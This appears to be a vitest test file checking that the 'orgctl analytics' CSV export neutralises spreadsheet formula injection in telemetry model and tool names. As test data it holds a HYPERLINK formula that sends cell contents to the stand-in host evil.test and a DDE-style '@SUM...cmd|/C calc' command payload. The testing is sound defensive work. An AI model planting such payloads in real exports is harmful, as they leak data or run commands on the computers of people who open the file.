import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { runCli, startServer, type Server } from '../helpers/cli.js';
import { orgInstallation } from '../helpers/installation.js';
import { onCleanup } from '../helpers/cleanup.js';

let server: Server;
let key: string;
const yesterday = new Date(Date.now() - 86_400_000).toISOString().slice(0, 10);

// Text any member chooses when sending telemetry: a model name and a tool name that a spreadsheet would run.
const MODEL = '=HYPERLINK("http://evil.test/?leak="&A1,"open")';
const TOOL = '@SUM(1+1)*cmd|/C calc';

beforeAll(async () => {
  const installed = await orgInstallation();
  key = installed.ownerKey;
  server = await startServer(installed.env);
  onCleanup(() => server.stop());
  const base = { timestamp: `${yesterday}T12:00:00Z`, sessionId: 's1', client: 'terminal-ui' };
  const events = [
    { id: 'csv-1', type: 'model_request', ...base, model: MODEL, tier: 'standard', inputTokens: 700, outputTokens: 5, cacheReadTokens: 0, cacheWriteTokens: 0 },
    { id: 'csv-2', type: 'tool_call', ...base, tool: TOOL, autonomyLevel: 'auto-low' },
  ];
  const res = await fetch(`${server.url}/api/v1/telemetry/events`, {
    method: 'POST',
    headers: { authorization: `Bearer ${key}`, 'content-type': 'application/json' },
    body: JSON.stringify({ events }),
  });
  expect(res.status).toBe(202);
}, 120_000);

const csvOf = async (args: string[]) => {
  const res = await runCli(['analytics', ...args, '--from', yesterday, '--to', yesterday, '--output', 'csv'], { ORGCTL_URL: server.url, ORGCTL_API_KEY: key });
  expect(res.stderr).toBe('');
  expect(res.code).toBe(0);
  return res.stdout;
};

describe('orgctl analytics --output csv: formula injection', () => {
  it('writes a model name that starts with = as quoted text with a leading quote; the token figures stay numbers', async () => {
    const csv = await csvOf(['tokens', '--group-by', 'model']);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.test/?leak=""&A1,""open"")"`);
    expect(csv).not.toMatch(/(^|,)=HYPERLINK/m);
    const rows = parse(csv, { columns: true }) as Record<string, string>[];
    const row = rows.find((r) => Object.values(r).includes(`'${MODEL}`));
    expect(row).toBeDefined();
    expect(Object.values(row!)).toContain('700');
  });

  it('neutralises a tool name that starts with @ (one row per tool)', async () => {
    const csv = await csvOf(['tools', '--group-by', 'tool_name']);
    expect(csv).toContain(`"'${TOOL}"`);
    expect(csv).not.toMatch(/(^|,)@SUM/m);
  });
});
